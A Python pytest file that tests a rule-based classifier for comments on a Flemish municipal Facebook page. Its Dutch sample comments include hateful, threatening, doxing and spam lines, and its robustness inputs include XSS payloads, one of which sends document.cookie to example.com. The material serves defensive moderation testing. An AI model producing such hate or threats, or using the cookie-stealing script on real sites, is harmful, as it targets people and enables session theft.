"""Table tests for the rule-based classifier: realistic comments on a municipal Facebook page.

Hard negatives follow the seed note ("Hoe als lokaal bestuur reageren op sociale media?"): caps lock,
repeated posts and off-topic chatter are never a penalty; counter-speech is not hate speech.
"""

from __future__ import annotations

import ast
import dataclasses
import pathlib
import time

import pytest

from moderation.classify import (
    CATEGORIES,
    REASON_LABELS,
    SENTIMENTS,
    Classification,
    ClassificationContext,
    Reason,
    classify_text,
)

OWN = ClassificationContext(
    own_phone_numbers=("09 210 10 10",),
    own_email_domains=("velderbeek.be",),
    party_names=("Samen Velderbeek",),
    false_claims=("Het zomerfeest is afgelast", "De afvalbelasting gaat naar de zakken van de burgemeester"),
)
UNWANTED = {"hate_speech", "threat", "doxing", "insult", "party_political", "spam", "commercial", "misinformation"}

CASES = [
    # hate speech
    ("Alle moslims buiten, dan is het hier weer veilig.", "hate_speech"),
    ("Die asielzoekers zijn ratten, allemaal.", "hate_speech"),
    ("Terug naar hun land met die mensen, wij betalen ons blauw.", "hate_speech"),
    ("Marokkanen zijn allemaal dieven en profiteurs", "hate_speech"),
    ("Het zijn altijd die Roemenen die hun afval in de gracht gooien. Buiten met dat volk.", "hate_speech"),
    ("Geen cent van mijn belastingen naar asielzoekers, die horen hier niet.", "hate_speech"),
    ("Kutmarokkanen, altijd hetzelfde hier", "hate_speech"),
    ("Ze zouden al die vluchtelingen moeten vergassen", "hate_speech"),
    # counter-speech quoting or condemning hate is allowed criticism
    ("Zeggen dat 'alle moslims buiten' moeten is racisme, punt.", "criticism"),
    ("Dit is haatspraak, stop ermee.", "criticism"),
    ("Schrijven dat vluchtelingen ratten zijn is pure haat. Schaam je.", "criticism"),
    # threats
    ("Ik maak je af als ik je tegenkom", "threat"),
    ("Ik weet waar je woont, pas maar op.", "threat"),
    ("Die schepen moet een kogel door zijn kop krijgen.", "threat"),
    ("We gaan hem eens een lesje leren, die burgemeester.", "threat"),
    ("Dat gemeentehuis moeten ze in brand steken.", "threat"),
    ("Kweet waar gij woont", "threat"),
    # not threats
    ("Ik word hier gek van, al drie weken geen ophaling!", "frustration"),
    ("Ik ontplof bijna als ik die wegenwerken zie", "frustration"),
    ("Iemand heeft gisteren de container aan de sporthal in brand gestoken.", "report"),
    # doxing
    ("Die vrouw die altijd zit te klagen woont in de Kerkstraat 14, bel haar gerust eens op 0478 12 34 56.", "doxing"),
    ("Zijn nummer is 0496 55 21 08, bel hem maar allemaal!", "doxing"),
    ("Het rijksregisternummer van die gast is 85.07.30-033.28", "doxing"),
    ("Hier woont die pestkop: Molenstraat 4, Velderbeek.", "doxing"),
    ("BE71 0961 2345 6769 is van Kevin uit de Beekstraat", "doxing"),
    ("1-ABC-123 is de auto van die vent die hier altijd te snel rijdt, hij woont op nummer 12", "doxing"),
    ("Mail die ambtenaar gerust zelf: jan.peeters@gmail.com, iedereen weet nu wie het is", "doxing"),
    # personal data that is not doxing
    ("Nieuwe kapsalon in het centrum! -20% op alle kleurbehandelingen, bel 0478 12 34 56", "commercial"),
    ("Mijn nummer is 0470 12 34 56, kan iemand mij terugbellen over mijn aanvraag?", "question"),
    ("Ik woon in de Kerkstraat 12 en de straatlamp voor mijn deur brandt al een week niet.", "report"),
    # insults
    ("Jij bent echt een onnozelaar.", "insult"),
    ("Stelletje nietsnutten op dat gemeentehuis!", "insult"),
    ("Die schepen is nen echte sukkel.", "insult"),
    ("Gij zijt zo dom als het achterste van een koe", "insult"),
    ("Wat een achterlijke ambtenaren hier", "insult"),
    ("Zakkenwassers, allemaal!", "insult"),
    ("Tettekop!", "insult"),
    ("Klootzakken zijn het daar", "insult"),
    ("Zooooot dat ge zijt!", "insult"),
    ("Proleet, leer eerst schrijven", "insult"),
    ("Fuck you gemeente", "insult"),
    ("Die vuilnismannen zijn te dom om een container leeg te maken.", "insult"),
    # swearing at a situation, negations
    ("Wat een kutweer vandaag, de braderie valt in het water.", "frustration"),
    ("Ik ben geen idioot, maar de brief is echt onduidelijk.", "criticism"),
    ("Niet slecht, die nieuwe speeltuin!", "compliment"),
    ("Zot van die nieuwe markt, echt gezellig!", "compliment"),
    ("Achterlijke regeling, niemand snapt er nog iets van.", "frustration"),
    # party politics
    ("Stem op 13 oktober op lijst 3!", "party_political"),
    ("Met Vooruit in het bestuur was dit al lang opgelost.", "party_political"),
    ("Groen zou dit nooit laten gebeuren.", "party_political"),
    ("Vlaams Belang gaat hier eens orde op zaken stellen.", "party_political"),
    ("Daarom stem ik in oktober N-VA.", "party_political"),
    ("Met CD&V was dit vroeger allemaal beter geregeld.", "party_political"),
    ("Samen Velderbeek luistert wel naar de mensen.", "party_political"),
    # citizens' politics without a party is allowed
    ("Het beleid van dit college is slecht.", "political"),
    ("De meerderheid heeft dit in de gemeenteraad goedgekeurd, de oppositie stemde tegen.", "political"),
    ("Het groen in het park wordt slecht onderhouden.", "criticism"),
    ("Vooruit met de geit, wanneer beginnen de werken?", "question"),
    # spam
    ("Gefeliciteerd! U bent geselecteerd om een iPhone 15 te winnen. Klik snel op bit.ly/wIn-Be1g", "spam"),
    ("Ik verdien nu € 4.500 per week van thuis uit dankzij crypto 💰 Stuur mij een bericht", "spam"),
    ("⚠️ Uw pagina wordt binnen 24 uur verwijderd. Verifieer uw account via meta-support-verify.com/appeal", "spam"),
    ("Gratis zonnepanelen voor elke Velderbekenaar, schrijf je in via www.zon-gratis.xyz", "spam"),
    # commercial
    ("-20% op alle taarten dit weekend bij Bakkerij De Zoete Inval! Dorpsplein 3", "commercial"),
    ("Openingsuitverkoop in onze winkel in de Stationsstraat, kom zeker langs!", "commercial"),
    ("Te koop: kinderfiets, bijna nieuw, 25 euro. PB voor info.", "commercial"),
    ("DM voor prijzen, wij leveren ook aan huis", "commercial"),
    # misinformation
    ("Het zomerfeest is afgelast, dat zegt iedereen.", "misinformation"),
    ("Wist je dat de afvalbelasting gewoon in de zakken van de burgemeester verdwijnt?", "misinformation"),
    ("Ze verzwijgen het, maar de 5G-mast op het kerkplein maakt ons ziek. De media liegen.", "misinformation"),
    # questions (caps lock and dialect included)
    ("Wanneer wordt het grofvuil opgehaald in de Molenstraat?", "question"),
    ("WANNEER IS HET CONTAINERPARK OPEN OP ZATERDAG???", "question"),
    ("WANNEER KOMEN JULLIE DIE PUT EENS HERSTELLEN!!!", "question"),
    ("Mag ik mijn hond meenemen naar het zomerfeest", "question"),
    ("Wa is de nieuwe ophaaldag voor het papier", "question"),
    ("Graag info over de sportkampen voor kinderen van 8 jaar", "question"),
    ("Weet iemand of de bib open is op paasmaandag", "question"),
    ("Kunde gij mij zeggen waar ik mijn identiteitskaart kan afhalen", "question"),
    ("Is het containerpark open op maandag? Alvast bedankt!", "question"),
    # reports
    ("De lichten aan het kruispunt met de Molenstraat werken niet.", "report"),
    ("Er ligt een diepe put in de weg aan de Kerkstraat, levensgevaarlijk voor fietsers.", "report"),
    ("Sluikstort aan de glasbakken in de Beekstraat, zakken vol afval.", "report"),
    ("Ons vuilnis is vandaag niet opgehaald in de Lindenlaan.", "report"),
    ("Omgevallen boom over het fietspad aan de Heirbaan.", "report"),
    ("Wateroverlast in de Broekstraat, de kelders lopen onder water.", "report"),
    ("Het straatlicht voor nummer 14 is al twee weken kapot", "report"),
    ("De straatlichten in de Kerkstraat werken niet, wanneer wordt dat hersteld?", "report"),
    # criticism
    ("Ik vind het jammer dat er geen fietsenstalling voorzien is.", "criticism"),
    ("Slecht georganiseerd, de omleiding was nergens aangegeven.", "criticism"),
    ("Had beter gekund, de communicatie kwam veel te laat.", "criticism"),
    ("Mijn voorstel: maak van de Kerkstraat een fietsstraat.", "criticism"),
    # frustration
    ("Belachelijk dit, al weken wachten op een antwoord!", "frustration"),
    ("Ik ben het zo beu 😡", "frustration"),
    ("Schandalig, nog altijd niet hersteld.", "frustration"),
    ("Zucht... weeral wegenwerken", "frustration"),
    ("Kzen het beu, da werkt hier nooit", "frustration"),
    # sympathy
    ("Innige deelneming aan de familie.", "sympathy"),
    ("Veel sterkte aan alle getroffen gezinnen 🙏", "sympathy"),
    ("Rust zacht, Jef. 🕯️", "sympathy"),
    ("Gecondoleerd, wat een verlies voor onze gemeente.", "sympathy"),
    # compliments
    ("Bedankt voor de snelle herstelling, top!", "compliment"),
    ("Proficiat aan alle vrijwilligers, mooi initiatief 👏", "compliment"),
    ("Merci, goed gedaan!", "compliment"),
    ("Superrrr 😍", "compliment"),
    ("❤️❤️❤️", "compliment"),
    ("Chapeau voor de mannen van de groendienst, altijd vriendelijk geholpen", "compliment"),
    # off-topic and other
    ("Kat vermist: grijze kater met witte pootjes, wie heeft hem gezien", "off_topic"),
    ("Lekker recept voor pompoensoep: 1 pompoen, 2 uien, 20 minuten in de oven.", "off_topic"),
    ("Ter info: de bushalte is tijdelijk verplaatst naar de Kerkstraat.", "other"),
    ("ok", "other"),
    ("", "other"),
]


def _classify(text: str) -> Classification:
    return classify_text(text, context=OWN)


@pytest.mark.parametrize(("text", "expected"), CASES)
def test_category(text, expected):
    result = _classify(text)
    assert result.category == expected, (text, result)
    assert result.labels[0] == expected


def test_the_table_is_big_and_covers_every_category():
    assert len(CASES) >= 80
    assert {expected for _, expected in CASES} == set(CATEGORIES)


@pytest.mark.parametrize(("text", "expected"), [
    ("Proficiat aan alle vrijwilligers, mooi initiatief 👏", "positive"),
    ("Jij bent echt een onnozelaar.", "negative"),
    ("Ik word hier gek van, al drie weken geen ophaling!", "negative"),
    ("Innige deelneming aan de familie.", "neutral"),
    ("Is het containerpark open op maandag? Alvast bedankt!", "neutral"),
    ("De lichten aan het kruispunt met de Molenstraat werken niet.", "neutral"),
    ("Openingsuitverkoop in onze winkel in de Stationsstraat, kom zeker langs!", "neutral"),
    ("Het beleid van dit college is slecht.", "negative"),
    ("WANNEER IS HET CONTAINERPARK OPEN OP ZATERDAG???", "neutral"),
    ("", "neutral"),
])
def test_sentiment(text, expected):
    assert _classify(text).sentiment == expected


@pytest.mark.parametrize("text", [
    "Wanneer wordt het grofvuil opgehaald in de Molenstraat?",
    "Mag ik nog parkeren voor mijn deur tijdens de werken? Ik woon op nummer 12.",
    "De lichten aan het kruispunt met de Molenstraat werken niet.",
    "Bedankt voor de snelle herstelling, top!",
    "Innige deelneming aan de familie.",
    "Moet ik dit betalen als ik alleen woon? Dank u",
    "Groetjes aan iedereen van de Kerkstraat, wij komen zeker naar het zomerfeest",
])
def test_caps_lock_never_changes_the_outcome(text):
    lower, upper = _classify(text), _classify(text.upper())
    assert (upper.category, upper.sentiment) == (lower.category, lower.sentiment)
    assert upper.category not in UNWANTED


@pytest.mark.parametrize(("text", "expected"), [
    ("We zijn de vluchtelingen gaan helpen, alle vluchtelingen weg uit de kou!", "other"),
    ("Vluchtelingen zijn ook mensen", "other"),
    ("Ze moeten die werken eens afmaken tegen vrijdag", "other"),
    ("De kinderen hebben een lesje verkeersveiligheid gekregen van de politie", "other"),
    ("Ik ben kapot van dit nieuws", "other"),
    ("Die zak friet van 't Pleintje was lekker", "other"),
    ("Het adres van het containerpark is Industrieweg 3", "other"),
    ("Stem op ons project bij de burgerbegroting!", "other"),
    ("Het geld van de actie storten op BE71 0961 2345 6769, alvast bedankt", "compliment"),
    ("Het jeugdhuis organiseert een fuif, gratis inkom, meer info op www.jeugdhuis-dekroon.be", "other"),
    ("Krijgen inwoners korting op het zwembad?", "question"),
    ("Wanneer komt er eindelijk 5G in Velderbeek?", "question"),
    ("Anders moet ik naar het containerpark van de buurgemeente", "other"),
    ("Ik lach me dood", "other"),
])
def test_benign_comments_are_not_unwanted(text, expected):
    result = _classify(text)
    assert result.category == expected, result
    assert not UNWANTED & set(result.labels), result


def test_caps_with_exclamation_marks_alone_is_not_a_category():
    result = _classify("DE BRUG IS VANDAAG DICHT VOOR ONDERHOUD!!!")
    assert result.category == "other"
    assert result.sentiment == "neutral"
    assert "frustration.shouting" in {reason.code for reason in result.reasons}


def test_own_service_number_and_domain_are_not_doxing():
    text = "Bel gerust naar het onthaal op 09 210 10 10 of mail naar info@velderbeek.be"
    assert classify_text(text).category == "doxing"   # without context it looks like a private number
    result = _classify(text)
    assert result.category == "other"
    assert [reason.evidence for reason in result.reasons if reason.code == "personal_data.organisation_contact"] == [
        "09 210 10 10", "info@velderbeek.be",
    ]


def test_own_domain_link_is_not_spam():
    result = _classify("Gratis compostvaten! Meer info op www.velderbeek.be/afval")
    assert result.category != "spam"
    assert "spam.link_with_bait" not in {reason.code for reason in result.reasons}


def test_repeated_text_without_link_is_not_spam():
    text = "Is het containerpark open op maandag?"
    context = ClassificationContext(author_previous_texts=(text, "Hallo?"))
    result = classify_text(text, context=context)
    assert result.category == "question"
    assert Reason("author.repeated_text", "") in result.reasons


def test_repeated_text_with_link_is_spam():
    text = "Bekijk dit aanbod: www.goedkope-zonnepanelen.xyz"
    assert classify_text(text).category != "spam"
    result = classify_text(text, context=ClassificationContext(author_previous_texts=(text,)))
    assert result.category == "spam"
    assert Reason("spam.repeated_with_link", "www.goedkope-zonnepanelen.xyz") in result.reasons


def test_contradicting_a_false_claim_is_not_misinformation():
    result = _classify("Het klopt niet dat het zomerfeest is afgelast, het gaat gewoon door!")
    assert "misinformation" not in result.labels
    assert "correction.claim_contradicted" in {reason.code for reason in result.reasons}


@pytest.mark.parametrize(("text", "language"), [
    ("Bonjour, quel jour passe le camion poubelle dans la rue?", "fr"),
    ("Thanks for the info, is the swimming pool open on Sunday?", "en"),
    ("Wann ist die Bibliothek geöffnet? Danke schön und bis bald", "de"),
    ("مرحبا، متى سيتم جمع النفايات في شارعنا؟", "ar"),
])
def test_non_dutch_text_is_other_with_a_reason(text, language):
    result = _classify(text)
    assert (result.category, result.language) == ("other", language)
    assert result.reasons[0].code == "language.not_dutch"
    assert result.confidence <= 0.4


def test_language_independent_rules_still_fire_on_non_dutch_text():
    result = _classify("Voici le numéro de ma voisine: 0478 12 34 56, appelez-la tous les jours!")
    assert (result.category, result.language) == ("doxing", "fr")
    assert Reason("doxing.phone_number", "0478 12 34 56") in result.reasons


@pytest.mark.parametrize(("text", "code", "evidence"), [
    ("Die vrouw woont in de Kerkstraat 14, bel haar op 0478 12 34 56.", "doxing.phone_number", "0478 12 34 56"),
    ("Die vrouw woont in de Kerkstraat 14, bel haar op 0478 12 34 56.", "doxing.street_address", "Kerkstraat 14"),
    ("Die vrouw woont in de Kerkstraat 14, bel haar op 0478 12 34 56.", "doxing.exposure_cue", "bel haar"),
    ("Jij bent echt een onnozelaar.", "insult.swear_word", "onnozelaar"),
    ("Wat een kutweer vandaag", "frustration.swearing_situation", "kutweer"),
    ("Alle moslims buiten!", "hate_speech.exclusion", "Alle moslims buiten"),
    ("Zooooot dat ge zijt!", "insult.swear_word", "Zooooot"),
    ("Ze noemen hem een o\u200bn\u200bn\u200bo\u200bz\u200be\u200bl\u200ba\u200ba\u200br", "insult.swear_word",
     "o\u200bn\u200bn\u200bo\u200bz\u200be\u200bl\u200ba\u200ba\u200br"),
    ("Dank u wel voor de uitleg! ❤️", "compliment.emoji", "❤️"),
    ("Het zomerfeest is afgelast, dat zegt iedereen.", "misinformation.known_false_claim", "zomerfeest is afgelast"),
    ("Stem op lijst 3!", "party_political.campaign", "Stem op lijst 3"),
])
def test_reasons_carry_the_matched_words(text, code, evidence):
    assert Reason(code, evidence) in _classify(text).reasons


HOSTILE = [
    "",
    " \n\t ",
    "a" * 100_000,
    "zooooooooooooooooooooot " * 4000,
    "".join(chr(code) for code in range(0, 0x3000, 7)),
    "\x00\x01\x02 binary \xff\xfe junk \ud800 \udfff end",
    "<script>alert('gratis iphone')</script><img src=x onerror=alert(1)>",
    "</textarea><script>document.location='https://example.com/?c='+document.cookie</script>",
    "\u202eetsiw sivad\u202c ابن الوطن \u05e9\u05dc\u05d5\u05dd mixed עברית and Nederlands",
    "👍👍👍🎉🎉🎆🙌🏼🙌🏼💚💚💚",
    "Ｗａｎｎｅｅｒ ｉｓ ｈｅｔ ｃｏｎｔａｉｎｅｒｐａｒｋ ｏｐｅｎ？",
    "𝔚𝔞𝔫𝔫𝔢𝔢𝔯 𝔦𝔰 𝔥𝔢𝔱 𝔬𝔭𝔢𝔫?",
    "Hoe zit dat met %s %d {0} ${naam} {{ voornaam }} \\N{BULLET} \\x00?",
    "((((((((((((((((((((" * 500 + "?" * 5000,
    "0" * 5000 + " 0478 12 34 56 " + "1-" * 3000,
    "@" * 3000 + "a@b.be " * 500,
    "Kerkstraat " * 3000 + "12",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_input_never_raises_and_stays_well_formed(text):
    result = classify_text(text, context=OWN)
    assert result.category in CATEGORIES and result.sentiment in SENTIMENTS
    assert result.labels[0] == result.category and set(result.labels) <= set(CATEGORIES)
    assert 0.0 <= result.confidence <= 1.0
    _assert_reasons_are_explained_and_grounded(text, result)


def test_empty_text_is_other_with_low_confidence():
    result = classify_text("")
    assert (result.category, result.sentiment, result.language) == ("other", "neutral", "unknown")
    assert result.confidence <= 0.4
    assert result.reasons == (Reason("other.no_rule_matched", ""),)


def test_long_text_is_fast_and_marked_truncated():
    text = ("Wanneer wordt de straatverlichting in de Kerkstraat 12 hersteld? Al weken donker!!! " * 1300)[:100_000]
    classify_text(text)   # warm caches
    start = time.perf_counter()
    result = classify_text(text)
    assert time.perf_counter() - start < 0.25   # about 30 ms on a laptop; generous for slow CI machines
    assert Reason("text.truncated", "") in result.reasons


def test_two_thousand_short_comments_take_well_under_a_second():
    texts = [text for text, _ in CASES] * 20
    for text in texts[:50]:
        classify_text(text, context=OWN)
    start = time.perf_counter()
    for text in texts[:2000]:
        classify_text(text, context=OWN)
    assert time.perf_counter() - start < 2.0   # about 0.5 s on a laptop


def test_every_reason_in_the_table_is_explained_and_grounded():
    for text, _ in CASES:
        _assert_reasons_are_explained_and_grounded(text, _classify(text))


def test_every_code_in_the_source_is_explained():
    """Codes are string literals such as "insult.swear_word"; doxing codes are built from finding kinds."""
    package = pathlib.Path(__file__).resolve().parents[3] / "moderation" / "classify"
    prefixes = set(CATEGORIES) | {"language", "text", "author", "personal_data", "correction"}
    found = set()
    for path in package.glob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Constant) and isinstance(node.value, str) and "." in node.value:
                prefix, _, rest = node.value.partition(".")
                if prefix in prefixes and rest.replace("_", "").isalpha():
                    found.add(node.value)
    kinds = ("phone_number", "email_address", "national_number", "iban", "street_address", "licence_plate")
    found |= {f"doxing.{kind}" for kind in kinds}
    assert len(found) > 60
    assert found <= set(REASON_LABELS), sorted(found - set(REASON_LABELS))
    assert set(REASON_LABELS) <= found, sorted(set(REASON_LABELS) - found)


def test_results_are_frozen_and_deterministic():
    first = _classify("Jij bent echt een onnozelaar.")
    assert first == _classify("Jij bent echt een onnozelaar.")
    with pytest.raises(dataclasses.FrozenInstanceError):
        first.category = "other"


def test_reasons_are_ordered_and_confidence_is_honest():
    strong = _classify("Ik maak je af")
    weak = _classify("Tweedehands fiets, interesse?")
    assert strong.confidence > weak.confidence
    fallback = _classify("De bushalte is verplaatst.")
    assert (fallback.category, fallback.confidence <= 0.4) == ("other", True)


def _assert_reasons_are_explained_and_grounded(text: str, result: Classification) -> None:
    for reason in result.reasons:
        assert reason.code in REASON_LABELS, reason.code
        assert reason.evidence in text, (reason, text[:80])
        if reason.evidence:
            assert reason.evidence == reason.evidence.strip()
